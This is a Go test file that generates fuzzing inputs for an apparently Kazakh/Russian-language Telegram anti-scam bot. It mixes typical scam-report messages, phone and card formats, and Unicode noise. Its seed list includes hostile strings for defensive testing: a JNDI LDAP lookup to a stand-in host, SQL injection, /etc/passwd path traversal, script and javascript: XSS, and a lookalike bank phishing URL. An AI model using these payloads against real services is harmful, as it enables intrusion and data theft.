package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
	"unicode/utf16"
)

// mostUnits is how long a message of Telegram's may be, in UTF-16 code units.
const mostUnits = 4096

// corpus makes what people send, and what nobody should.
type corpus struct {
	*rand.Rand
	seeds []string
}

// newCorpus collects the project's own cases: what people were seen to write.
func newCorpus(t testing.TB, random *rand.Rand) *corpus {
	t.Helper()
	c := &corpus{Rand: random}
	for _, path := range []string{"../../recognize/testdata/recognize.tsv", "../../recognize/testdata/more.tsv", "../../recognize/testdata/redact.tsv"} {
		c.read(t, path)
	}
	if len(c.seeds) < 400 {
		t.Fatalf("only %d cases were collected", len(c.seeds))
	}
	c.seeds = append(c.seeds, said()...)
	return c
}

func (c *corpus) read(t testing.TB, path string) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }() // read only
	for lines := bufio.NewScanner(f); lines.Scan(); {
		quoted, _, _ := strings.Cut(lines.Text(), "\t")
		var text string
		if strings.HasPrefix(quoted, `"`) && json.Unmarshal([]byte(quoted), &text) == nil && text != "" {
			c.seeds = append(c.seeds, text)
		}
	}
}

// said is what people say in the middle of something, and what is sent to break things.
func said() []string {
	return []string{
		"Сәлеметсіз бе", "здравствуйте", "ало", "Иә", "жоқ", "да", "нет", "артқа", "назад", "пропустить", "өткізу", "болдырмау", "отмена", "стоп",
		"көмек", "помогите", "маған қоңырау шалды, банктен дейді", "мне звонят из банка, говорят перевести на безопасный счёт",
		"банктен звандап жатыр код сұрайды", "magan bankten konyrau shaldy, kod surap jatyr", "Menen aqsha surady", "men kodty aittym ne isteimin",
		"я уже перевела 450 000 тенге", "мың теңге", "500к", "1,5 млн", "бүгін", "вчера вечером", "12.11.2026", "31.02.2026", "99:99",
		"код из смс 482913", "CVV 123", "пароль qwerty123", "менің жсн 990101300123",
		"<b>жуан</b>", "<tg-spoiler>x</tg-spoiler>", `<a href="https://evil.example">банк</a>`, "<s>", "</b></code>", "&lt;b&gt;", "&amp;lt;", "<script>alert(1)</script>", "a<b>c", "<!--", "&#x3c;u&#x3e;",
		"*bold* _it_ `code` [x](tg://user?id=1)", "||spoiler||", "```\n/start\n```", "{{.Code}}", "{{template}}", "%s %d %!v(MISSING)", "${jndi:ldap://evil.example}",
		"'; DROP TABLE reports; --", `" OR 1=1 --`, "\\x00\\u0000", "../../etc/passwd", "null", "undefined", "NaN", "-1", "0", "1e400", "9999999999999999999999999999",
		"\u0000", "\u0001\u0002\u0003", "\u0007", "\u001b[31m", "\u2028\u2029", "\ufeff", "\u200b", "\u202e", "\u00ad", "\ufffd", "\U0010ffff", "\uffff",
		"👍", "👩‍👩‍👧‍👦", "🇰🇿🇰🇿", "1️⃣2️⃣", "8️⃣7️⃣0️⃣1️⃣1️⃣2️⃣3️⃣4️⃣5️⃣6️⃣7️⃣", "٨٧٠١١٢٣٤٥٦٧", "８７０１１２３４５６７", "𝟖𝟕𝟎𝟏𝟏𝟐𝟑𝟒𝟓𝟔𝟕",
		"⚪", "✅", "✖️", "◀", "SB-0000-0000", "SB-ZZZZ-ZZZZ", "/", "//", "/ ", "/@", "/start@", "/start@sample_saqbol_bot", "/check@another_bot 87011234567", "/көмек", "/СТОП 8 701 123 45 67",
		"t.me/joinchat/AAAA", "tg://resolve?domain=x", "javascript:alert(1)", "https://kaspi.kz.evil.example/login?x=<b>", "http://[::1]:80/", "xn--80ak6aa92e.com", "https://каспи.қаз",
	}
}

// pick is one of many.
func pick[T any](r *rand.Rand, of []T) T { return of[r.IntN(len(of))] }

// text is a message: something said, a number, or both, perhaps disfigured.
func (c *corpus) text() string {
	var s string
	switch c.IntN(10) {
	case 0, 1, 2:
		s = pick(c.Rand, c.seeds)
	case 3, 4:
		s = c.number()
	case 5:
		s = c.number() + pick(c.Rand, []string{" ", "\n", ", ", " және ", " и ", "/", ";", "", "\t"}) + c.number()
	case 6:
		s = pick(c.Rand, c.seeds) + " " + c.number()
	case 7:
		s = strings.Repeat(pick(c.Rand, c.seeds)+pick(c.Rand, []string{" ", "\n", ""}), 1+c.IntN(200))
	case 8:
		s = c.noise(1 + c.IntN(60))
	default:
		s = c.noise(1 + c.IntN(mostUnits))
	}
	for range c.IntN(4) {
		s = c.disfigure(s)
	}
	return cut(s)
}

// cut shortens a text to what Telegram would take.
func cut(s string) string {
	units := utf16.Encode([]rune(s))
	if len(units) > mostUnits {
		units = units[:mostUnits]
	}
	if s = string(utf16.Decode(units)); s == "" {
		return "?"
	}
	return s
}

// number is a number of some kind, written in one of the ways there are.
func (c *corpus) number() string {
	switch c.IntN(8) {
	case 0, 1, 2:
		return c.phone()
	case 3:
		return c.grouped(pick(c.Rand, []string{"4400430000001237", "5100000000000008", "4111111111111111", "2200000000000004", "6200000000000005", "4400430000001234"}))
	case 4:
		return c.iban()
	case 5:
		return pick(c.Rand, []string{"1414", "102", "112", "7711", "88000", "1477", "109", "8 800 080 18 80"})
	case 6:
		return pick(c.Rand, []string{"wa.me/", "https://t.me/+", "tel:", "viber://chat?number=%2B"}) + c.digits(11)
	}
	return c.digits(1 + c.IntN(25))
}

func (c *corpus) phone() string {
	d := pick(c.Rand, []string{"701", "702", "705", "707", "747", "771", "775", "7172", "727", "7103", "999", "495"}) + c.digits(7)
	d = d[:10]
	head := pick(c.Rand, []string{"8", "+7", "7", "8 ", "+7 ", "8-", "+7(", "8 (", "007", "+ 7 ", ""})
	switch c.IntN(4) {
	case 0:
		return head + d
	case 1:
		return head + strings.Join([]string{d[:3], d[3:6], d[6:8], d[8:]}, pick(c.Rand, []string{" ", "-", ".", "  ", "\u00a0", "–"}))
	case 2:
		return head + d[:3] + ") " + d[3:6] + "-" + d[6:8] + "-" + d[8:]
	}
	return head + c.grouped(d)
}

func (c *corpus) grouped(digits string) string {
	var out strings.Builder
	gap := pick(c.Rand, []string{" ", "-", "", ".", "\u202f"})
	size := 2 + c.IntN(4)
	for i, d := range digits {
		if i > 0 && i%size == 0 {
			out.WriteString(gap)
		}
		out.WriteRune(d)
	}
	return out.String()
}

func (c *corpus) iban() string {
	body := "125KZT5004100100"
	if c.IntN(2) == 0 {
		body = c.digits(3) + "KZT" + c.digits(10)
	}
	return pick(c.Rand, []string{"KZ86", "kz86 ", "KZ 86 ", "KZ" + c.digits(2)}) + body
}

func (c *corpus) digits(n int) string {
	out := make([]byte, n)
	for i := range out {
		out[i] = byte('0' + c.IntN(10))
	}
	return string(out)
}

// noise is characters of all sorts.
func (c *corpus) noise(n int) string {
	ranges := [][2]int{{0x20, 0x7f}, {'0', '9' + 1}, {0x400, 0x530}, {0, 0x20}, {0x300, 0x370}, {0x590, 0x700}, {0x2000, 0x2070}, {0x1f300, 0x1fb00}, {0xe000, 0xe010}, {0xfe00, 0xfe10}, {0xe0000, 0xe0080}, {0x10fff0, 0x110000}}
	r := pick(c.Rand, ranges)
	out := make([]rune, n)
	for i := range out {
		if c.IntN(20) == 0 {
			r = pick(c.Rand, ranges)
		}
		out[i] = rune(r[0] + c.IntN(r[1]-r[0]))
	}
	return string(out)
}

// disfigure changes a text as keyboards, apps and mischief do.
func (c *corpus) disfigure(s string) string {
	runes := []rune(s)
	at := c.IntN(len(runes) + 1)
	put := func(piece string) string { return string(runes[:at]) + piece + string(runes[at:]) }
	switch c.IntN(12) {
	case 0:
		return put(pick(c.Rand, []string{"\u200b", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u180e"}))
	case 1:
		return put(pick(c.Rand, []string{"\u202e", "\u202d", "\u200f", "\u2066", "\u2069"}))
	case 2:
		return put(strings.Repeat("\u0301\u0335", 1+c.IntN(40)))
	case 3:
		return put(pick(c.Rand, said()))
	case 4:
		return put(c.noise(1 + c.IntN(5)))
	case 5:
		return string(runes[at:]) + string(runes[:at])
	case 6:
		return string(runes[:at])
	case 7:
		return strings.ToUpper(s)
	case 8:
		return strings.NewReplacer("0", "О", "3", "З", "1", "l", "о", "o", "а", "a", "е", "e").Replace(s)
	case 9:
		return "<b>" + s + "</s>"
	case 10:
		var out strings.Builder
		for _, r := range runes {
			out.WriteRune(r)
			out.WriteString(pick(c.Rand, []string{"", " ", "\u200b", "\n"}))
		}
		return out.String()
	}
	return s + s
}

// literal is a text as JSON, at times with half a character in it: Telegram cuts
// by UTF-16, and not every library writes whole ones.
func (c *corpus) literal(s string) json.RawMessage {
	out, err := json.Marshal(s)
	if err != nil {
		panic(err) // a string always encodes
	}
	if c.IntN(25) != 0 {
		return out
	}
	half := pick(c.Rand, []string{`\ud800`, `\udc00`, `\udfff\ud83d`, `\ud83d\ud83d\ude00`})
	return json.RawMessage(`"` + half + string(out[1:len(out)-1]) + half + `"`)
}

// command is a command, perhaps ours, with something behind it.
func (c *corpus) command() string {
	name := pick(c.Rand, []string{"start", "check", "report", "my", "emergency", "tips", "stats", "settings", "language", "privacy", "help", "cancel", "START", "Check", "startt", "ban", "admin", "debug", "", "start@sample_saqbol_bot", "report@SAMPLE_SAQBOL_BOT"})
	return cut("/" + name + pick(c.Rand, []string{"", " ", "\n", "\u00a0", "  "}) + pick(c.Rand, []string{"", c.text(), c.number(), c.digits(70)}))
}

// data is the data of a button: of all our kinds, well formed or not, and none of them.
func (c *corpus) data() string {
	tail := pick(c.Rand, []string{"", ":", "::", ":::", "kk", "ru", "xx", "yes", "no", "on", "erase", "erased", "export", "+", "+safe_account", "-1", "0", "1", "999999999", "99999999999999999999",
		"w:SB-0000-0000", "y:SB-ZZZZ-ZZZZ", "<b>", "ә", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", c.digits(8) + ":words:skip", "00000000:summary:file", "00000000:when:", "ZZZZZZZZ:subjects:del-", c.digits(c.IntN(300))})
	return pick(c.Rand, []string{"lang:", "rep:", "r:", "my:", "dis:", "now:", "tip:", "set:", "del:", "drop:", "", "unknown:", "R:", "r", " r:"}) + tail
}

// vcard is the card of a contact.
func (c *corpus) vcard() string {
	return fmt.Sprintf("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:%s\r\nTEL;TYPE=CELL:%s\r\nitem1.TEL:%s\r\nTEL\r\nEND:VCARD", pick(c.Rand, c.seeds), c.number(), c.noise(10))
}
